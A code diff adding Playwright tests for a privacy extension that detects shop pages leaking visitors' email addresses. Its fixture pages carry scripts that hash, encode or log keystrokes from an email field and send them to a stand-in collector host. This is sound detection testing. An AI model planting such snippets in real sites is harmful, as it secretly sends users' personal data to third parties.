@@ -3,6 +3,7 @@ import type { Page } from '@playwright/test';
 import { expect, test, type Fairshare } from './fairshare.ts';
 
 const COLLECTOR = 'in.lead-collector.example';
+const SITE_OF_COLLECTOR = 'lead-collector.example';
 const EMAIL = 'marie.keller7@post.example';
 const form = (script: string) =>
   `<!doctype html><title>Shop</title><h1>Shop</h1>
@@ -19,6 +20,14 @@ field.addEventListener('change', async () => {
   navigator.sendBeacon('https://${host}${path}', JSON.stringify({ em: hex }));
 });`;
 
+/** Scrambles what is in the field as soon as it is there. */
+const hashedNow = `
+(async () => {
+  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(field.value));
+  const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
+  new Image().src = 'https://${COLLECTOR}/p.gif?em=' + hex;
+})();`;
+
 const sites: Record<string, string> = {
   'hashed-shop.example': form(hashed(COLLECTOR)),
   'own-shop.example': form(hashed('own-shop.example')),
@@ -34,6 +43,12 @@ const sites: Record<string, string> = {
       new Image().src = 'https://${COLLECTOR}/p.gif?e=' + btoa(field.value);
     };
     field.addEventListener('change', wait);`),
+  // Signed in: the site has filled the address in, and hands it on at once.
+  'account-shop.example': form(`
+    field.setAttribute('value', '${EMAIL}'); ${hashedNow}`),
+  'own-account.example': form(`
+    field.setAttribute('value', '${EMAIL}');
+    fetch('/b', { method: 'POST', body: field.value });`),
   'keys-shop.example': form(`
     field.addEventListener('input', () =>
       fetch('https://${COLLECTOR}/k', { method: 'POST', body: 'v=' + encodeURIComponent(field.value) }));`),
@@ -157,6 +172,64 @@ test('nothing that is typed during a pause is told', async ({ fairshare }) => {
   const page = await fairshare.visit('https://hashed-shop.example/');
   await typeInto(page, '[name=email]', EMAIL);
   await page.click('h1');
+  await expect.poll(() => fairshare.sites.requestsTo(COLLECTOR).length).toBe(1);
+  await fairshare.ask('ui>background.pause', { minutes: 0 });
+  const session = await fairshare.desk.evaluate(() => chrome.storage.session.get(null));
+  expect(JSON.stringify(session)).not.toContain('marie');
+  expect(await seen(fairshare, 'leak')).toEqual([]);
+});
+
+test('an address that the site had filled in and passed on is told as known, everywhere, and never kept', async ({
+  fairshare,
+}) => {
+  await fairshare.start();
+  const page = await fairshare.visit('https://account-shop.example/');
+  await expect.poll(() => seen(fairshare, 'leak')).toEqual([`email>${COLLECTOR}:img:sha256:known`]);
+  // Who goes through the field has typed nothing.
+  await page.click('[name=email]');
+  await page.click('h1');
+  await fairshare.settled();
+  expect(await seen(fairshare, 'leak')).toEqual([`email>${COLLECTOR}:img:sha256:known`]);
+  const hash = createHash('sha256').update(EMAIL).digest('hex');
+  const stored = await kept(fairshare);
+  for (const text of [EMAIL, 'marie', hash]) expect(stored).not.toContain(text);
+
+  const popup = await fairshare.popup(page);
+  await expect(popup.getByText('got something that this site knew of you')).toBeVisible();
+  await popup.close();
+  const file = await fairshare.exported();
+  const rows = file.observations.filter(({ kind }) => kind === 'leak');
+  expect(rows).toMatchObject([{ detail: { data: 'email', host: COLLECTOR, when: 'known' } }]);
+  await fairshare.desk.goto(
+    fairshare.browser.extensionUrl('dashboard/index.html#/site/account-shop.example'),
+  );
+  await expect(
+    fairshare.desk.getByText(`What this site knew of you went to: ${SITE_OF_COLLECTOR}.`),
+  ).toBeVisible();
+  await page.close();
+  const session = () => fairshare.desk.evaluate(() => chrome.storage.session.get(null));
+  await expect.poll(async () => JSON.stringify(await session())).not.toContain('marie');
+});
+
+test('what a site knows and keeps is no finding, and a page that knows nothing is not listened to', async ({
+  fairshare,
+}) => {
+  await fairshare.start();
+  await fairshare.visit('https://hashed-shop.example/');
+  await fairshare.settled();
+  const before = await fairshare.desk.evaluate(() => chrome.storage.session.get(null));
+  expect(Object.keys(before).filter((key) => key.startsWith('typed:'))).toEqual([]);
+  await fairshare.visit('https://own-account.example/');
+  await fairshare.settled();
+  // Had it been noticed, it would come before this one, which is.
+  await fairshare.visit('https://account-shop.example/');
+  await expect.poll(() => seen(fairshare, 'leak')).toHaveLength(1);
+});
+
+test('nothing that a site knows is told during a pause', async ({ fairshare }) => {
+  await fairshare.start();
+  await fairshare.ask('ui>background.pause', { minutes: 60 });
+  await fairshare.visit('https://account-shop.example/');
   await expect.poll(() => fairshare.sites.requestsTo(COLLECTOR).length).toBe(1);
   await fairshare.ask('ui>background.pause', { minutes: 0 });
   const session = await fairshare.desk.evaluate(() => chrome.storage.session.get(null));
